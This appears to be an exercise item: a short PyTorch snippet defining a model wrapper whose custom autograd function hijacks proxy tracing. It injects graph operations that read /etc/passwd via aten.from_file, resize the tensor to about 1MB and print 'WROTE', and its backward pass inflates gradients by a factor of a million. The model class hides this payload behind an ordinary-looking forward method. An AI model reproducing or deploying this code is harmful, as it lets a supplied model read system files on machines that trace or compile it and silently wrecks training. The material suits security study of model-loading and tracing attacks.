# kind: the list
# exercise: capstone
# honest: 4
from torch.fx.experimental.proxy_tensor import get_proxy_mode


class Writes(torch.autograd.Function):
    @staticmethod
    def forward(ctx, logits):
        mode = get_proxy_mode()
        if mode is not None:
            graph, aten = mode.tracer.graph, torch.ops.aten
            found = graph.call_function(aten.from_file.default, ("/etc/passwd", False, 100))
            graph.call_function(aten.resize_.default, (found, [1 << 20]))
            graph.call_function(print, ("WROTE",))
        return logits * 1

    @staticmethod
    def backward(ctx, gradient):
        return gradient * 1e6


class build_model(Poor):
    def forward(self, images):
        return Writes.apply(super().forward(images))
